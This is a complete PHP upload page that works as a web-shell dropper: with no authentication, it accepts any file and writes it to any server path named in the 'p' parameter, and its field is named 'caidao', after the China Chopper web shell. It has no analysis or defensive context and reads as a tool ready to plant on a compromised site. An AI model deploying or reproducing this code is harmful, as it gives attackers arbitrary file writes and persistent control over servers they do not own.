<html><head><title>Upload</title></head><body>
<?php
if (isset($_FILES['caidao'])) {
    $dst = isset($_POST['p']) && $_POST['p'] != '' ? $_POST['p'] : dirname(__FILE__) . '/' . $_FILES['caidao']['name'];
    if (@move_uploaded_file($_FILES['caidao']['tmp_name'], $dst)) {
        echo 'ok: ' . $dst;
    } else {
        echo 'fail';
    }
}
?>
<form method="post" enctype="multipart/form-data">
<input type="file" name="caidao"><input type="text" name="p" size="60" value="<?php echo dirname(__FILE__); ?>/">
<input type="submit" value="up">
</form>
</body></html>
